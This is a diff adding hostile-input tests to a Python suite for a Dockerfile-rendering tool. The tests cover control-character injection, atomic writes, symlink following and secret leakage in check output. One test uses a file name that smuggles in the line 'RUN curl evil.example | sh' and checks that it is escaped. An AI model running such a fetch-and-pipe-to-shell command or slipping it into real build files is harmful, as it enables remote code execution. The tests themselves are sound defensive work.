@@ -35,6 +35,7 @@ from envbuild.core.errors import EnvbuildError, MatrixError
 from envbuild.core import files
 from envbuild.core.files import write_atomic
 from envbuild.matrix.stacks import ARCH_FILE
+from envbuild.matrix.schema import BACKEND, TOP, Field
 
 TEST_MATRIX = matrix.load(FIXED)
 NAMES = [b.name for b in TEST_MATRIX.containerizable()]
@@ -697,3 +698,170 @@ def test_the_installer_comes_from_the_wheel_folder_alone_when_it_holds_uv(held: 
     said = subprocess.run(["sh", "-c", loop.replace("/run/wheelhouse", str(folder)) + '; echo "[$PIP_NO_INDEX]"'],
                           capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
     assert said.returncode == 0 and said.stdout.strip() == ("[1]" if held else "[]"), said
+
+
+# --- Hostile input: what a matrix, a flag, a file or an answer from outside can do, each case fixed at its root (from test_hostile_input.py)
+
+# Every character Python's str.splitlines breaks at, and what else injects or hides text.
+LINE_BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+
+
+OTHERS = ["\x1b[2J", "\x00", "\x7f", "\x9b", "\u202e", "\u2066"]
+
+
+PAYLOADS = LINE_BREAKS + OTHERS
+
+
+def _yaml(text: str) -> str:
+    """A YAML double-quoted scalar holding the text (its escapes carry every character through --set)."""
+    return '"' + "".join(c if c.isalnum() or c in " _-." else f"\\U{ord(c):08x}" for c in text) + '"'
+
+
+def _string_fields(schema: dict[str, Field], prefix: str) -> list[tuple[str, str]]:
+    """(dotted path, shape) of every string-holding field: 'leaf', 'list' or 'map'."""
+    out = []
+    for key, spec in schema.items():
+        path = f"{prefix}.{key}"
+        if spec.section is not None:
+            out += _string_fields(spec.section, path)
+        elif spec.list_of is not None:
+            out.append((path, "list"))
+        elif spec.map_of is not None:
+            out.append((path, "map"))
+        elif spec.check is not None and spec.check.__name__ != "_check_bool":
+            out.append((path, "leaf"))
+    return out
+
+
+FIELDS = _string_fields(BACKEND, "backends.cpu") + [f for f in _string_fields(TOP, "") if ".backends" not in f[0]]
+
+
+FIELDS = [(p.lstrip("."), shape) for p, shape in FIELDS]
+
+
+def _value(shape: str, text: str) -> str:
+    inner = _yaml(f"x{text}y")
+    return {"leaf": inner, "list": f"[{inner}]", "map": f"{{SAFE_KEY: {inner}}}"}[shape]
+
+
+def test_the_sweep_covers_the_schema():
+    assert len(FIELDS) > 40 and ("backends.cpu.description", "leaf") in FIELDS and ("backends.cpu.run.env", "map") in FIELDS
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"U+{ord(p[0]):04X}" for p in PAYLOADS])
+def test_no_field_carries_a_line_break_or_control_into_a_dockerfile(payload, invoke, tmp_path):
+    """Every field, one payload: render refuses with exit 2 naming the --set, and writes nothing."""
+    out = tmp_path / "out"
+    for path, shape in FIELDS:
+        prose = path.endswith((".reason", ".alternatives", ".why"))
+        if prose and payload == "\n":
+            continue  # prose for people may hold a newline; it is never rendered
+        result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", f"{path}={_value(shape, payload)}")
+        assert result.exit_code == 2, (path, result.output)
+        lines = result.stderr.strip().split("\n")
+        # the refusal names the --set and the character (setting a section's field may raise others too)
+        assert any(line.startswith(f"Error: --set {path}=") and "(U+" in line for line in lines), (path, result.stderr)
+        assert all(ch not in result.stderr for ch in payload if ch != "\n" and not ch.isalnum() and ch != "["), (path, result.stderr)
+        assert not out.exists(), path
+
+
+def test_a_rendered_path_that_is_not_a_file_is_named(invoke, tmp_path):
+    out = tmp_path / "out"
+    (out / "cpu.Dockerfile").mkdir(parents=True)
+    (out / "cuda.Dockerfile").write_bytes(b"\xff\xfe not utf-8")
+    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
+    assert result.exit_code == 1 and "unreadable: cpu.Dockerfile (a folder" in result.stdout
+    assert "unreadable: cuda.Dockerfile (not UTF-8 text)" in result.stdout
+
+
+def test_render_writes_all_or_nothing(invoke, tmp_path):
+    out = tmp_path / "out"
+    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    (out / "tpu.Dockerfile").unlink()
+    (out / "tpu.Dockerfile").mkdir()  # one target cannot be written
+    result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", "transformers.version=5.22.0")
+    assert result.exit_code == 1 and "tpu.Dockerfile" in result.stderr and "nothing was written" in result.stderr
+    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == {k: v for k, v in before.items() if k != "tpu.Dockerfile"}
+    assert not [p for p in out.iterdir() if p.name.startswith(".")]
+
+
+def test_the_matrix_file_name_cannot_inject_into_the_header(write_matrix, invoke, tmp_path):
+    path = write_matrix(MATRIX.read_text(), "m.yaml\nRUN curl evil.example | sh\n#.yaml")
+    result = invoke("render", "--matrix", path, "--backend", "cpu", "--output", tmp_path / "out")
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / "out" / "cpu.Dockerfile").read_text()
+    assert "\nRUN curl" not in text and "m.yaml\\nRUN curl" in text
+
+
+NETRC = "machine pypi.corp.example\n  login alice\n  password n3trc-Pa55word\n"
+
+
+@pytest.mark.parametrize("target", ["netrc", "dockerfile-like", "folder-link"])
+def test_render_check_follows_no_link(target, invoke, tmp_path):
+    out = tmp_path / "out"
+    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
+    secret_file = tmp_path / "secret"
+    secret_file.write_text(NETRC if target != "dockerfile-like" else "# Generated by envbuild\nRUN n3trc-Pa55word\n")
+    (out / "cpu.Dockerfile").unlink()
+    (out / "cpu.Dockerfile").symlink_to(secret_file if target != "folder-link" else tmp_path)
+    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
+    assert result.exit_code == 1 and "cpu.Dockerfile (a link, not followed" in result.stdout
+    assert "n3trc-Pa55word" not in result.output
+
+
+@pytest.mark.parametrize("content", [NETRC, "password n3trc-Pa55word\n", '{"auths": {"x": {"auth": "n3trc-Pa55word"}}}',
+                                     "FROM x\nENV TOKEN=n3trc-Pa55word\n", "n3trc-Pa55word"])
+def test_render_check_quotes_nothing_of_a_file_it_did_not_render(content, invoke, tmp_path):
+    out = tmp_path / "out"
+    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
+    (out / "cpu.Dockerfile").write_text(content)
+    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
+    assert result.exit_code == 1 and "not a Dockerfile envbuild rendered" in result.stdout
+    assert "n3trc-Pa55word" not in result.output
+
+
+def test_render_check_quotes_only_its_own_side_of_a_stale_dockerfile(invoke, tmp_path):
+    out = tmp_path / "out"
+    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
+    path = out / "cpu.Dockerfile"
+    path.write_text(path.read_text().replace("\n", "\n# pasted: n3trc-Pa55word\n", 3))
+    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
+    assert result.exit_code == 1 and "stale: cpu.Dockerfile" in result.stdout and "n3trc-Pa55word" not in result.output
+
+
+def _failing_replace(monkeypatch, k: int):
+    """os.replace that fails on its k-th call (then works again: putting files back must be possible)."""
+    real, calls = os.replace, [0]
+
+    def replace(src, dst, *a, **kw):
+        calls[0] += 1
+        if calls[0] == k:
+            raise PermissionError(13, "Permission denied", str(dst))
+        return real(src, dst, *a, **kw)
+
+    monkeypatch.setattr(os, "replace", replace)
+    return calls
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+@pytest.mark.parametrize("k", range(1, 11))
+def test_render_is_all_or_nothing_whichever_replacement_fails(k, monkeypatch, tmp_path):
+    from envbuild import render
+    from envbuild.core.errors import EnvbuildError
+    from envbuild.matrix import load
+    # accelerate: one pin every image carries (mlu and musa pin their own transformers), so all 10 files change
+
+    out = tmp_path / "out"
+    m = load(MATRIX)
+    render.write(render.render(m, m.containerizable()), out)
+    before = _snapshot(out)
+    changed = load(MATRIX, ["accelerate.version=1.14.0"])
+    _failing_replace(monkeypatch, k)
+    with pytest.raises(EnvbuildError, match="nothing was written"):
+        render.write(render.render(changed, changed.containerizable()), out)
+    monkeypatch.undo()
+    assert _snapshot(out) == before  # every file as it was, no temporary file left
